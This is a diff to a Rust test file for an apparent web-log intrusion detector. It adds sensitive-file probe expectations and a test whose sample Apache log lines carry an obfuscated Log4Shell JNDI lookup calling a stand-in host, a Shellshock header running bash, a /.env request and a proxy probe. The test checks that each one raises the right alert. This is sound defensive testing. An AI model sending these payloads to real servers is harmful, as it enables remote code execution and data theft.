@@ -616,6 +616,9 @@ fn web_attacks_on_the_sample_story() {
         [
             // It announces itself: the Nmap Scripting Engine's own User-Agent.
             row("scanner-agent", "MEDIUM", "T1595.002"),
+            // It looks for what a careless site leaves lying about: .htaccess, phpinfo.php.
+            row("sensitive-file-probe", "MEDIUM", "T1595.003"),
+            row("sensitive-file-probe", "MEDIUM", "T1595.003"),
             row("sql-injection", "HIGH", "T1190"),
             // The traversal was answered 200: the file was served.
             row("directory-traversal-served", "CRITICAL", "T1083"),
@@ -975,4 +978,42 @@ fn scanners_are_known_by_their_agents_on_real_logs() {
         BTreeSet::from(["192.168.4.25".to_owned()])
     );
     assert_eq!(sources(&corpus.join("elastic-examples/apache_logs")), BTreeSet::new());
+}
+
+/// Log4Shell rides in the headers as often as in the URL: an obfuscated lookup in the
+/// Referer is a CRITICAL alert that names the header, and a scanner's product list in its
+/// User-Agent is not a command line.
+#[test]
+fn headers_carry_attacks_and_product_lists_are_not_commands() {
+    let log = concat!(
+        "192.0.2.5 - - [12/Dec/2021:05:06:43 +0000] \"GET / HTTP/1.1\" 200 396 ",
+        "\"${jndi:${lower:l}${lower:d}a${lower:p}://x.example:80/callback}\" \"Mozilla/5.0\"\n",
+        "192.0.2.6 - - [12/Dec/2021:05:06:44 +0000] \"GET /cgi-bin/status HTTP/1.1\" 200 10 ",
+        "\"-\" \"() { :; }; /bin/bash -c 'id'\"\n",
+        "192.0.2.7 - - [12/Dec/2021:05:06:45 +0000] \"GET /admin HTTP/1.1\" 404 10 ",
+        "\"-\" \"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)\"\n",
+        "192.0.2.8 - - [12/Dec/2021:05:06:46 +0000] \"GET /.env HTTP/1.1\" 200 99 \"-\" \"curl/8.0\"\n",
+        "192.0.2.9 - - [12/Dec/2021:05:06:47 +0000] \"GET http://proxy.example/ip.php HTTP/1.0\" 400 10 \"-\" \"-\"\n",
+    );
+    let events = ls_parse(&["apache"], log.as_bytes());
+    let found: Vec<(String, String, String)> = alerts(&ls_detect(&["--skip", "scanner-agent"], &events.stdout))
+        .into_iter()
+        .map(|alert| {
+            let source = alert.source.map(|source| source.ip).unwrap_or_default();
+            (source, alert.rule.id, alert.logsentry.severity)
+        })
+        .collect();
+    let row = |source: &str, rule: &str, severity: &str| (source.to_owned(), rule.to_owned(), severity.to_owned());
+    assert_eq!(
+        found,
+        [
+            row("192.0.2.5", "log4shell", "CRITICAL"),
+            row("192.0.2.6", "shellshock", "CRITICAL"),
+            row("192.0.2.8", "sensitive-file-served", "HIGH"),
+            row("192.0.2.9", "exploit-probe", "MEDIUM"),
+        ]
+    );
+    let all = ls_detect(&["--only", "log4shell"], &events.stdout);
+    let message = &alerts(&all)[0].message;
+    assert!(message.contains("in the Referer"), "{message}");
 }
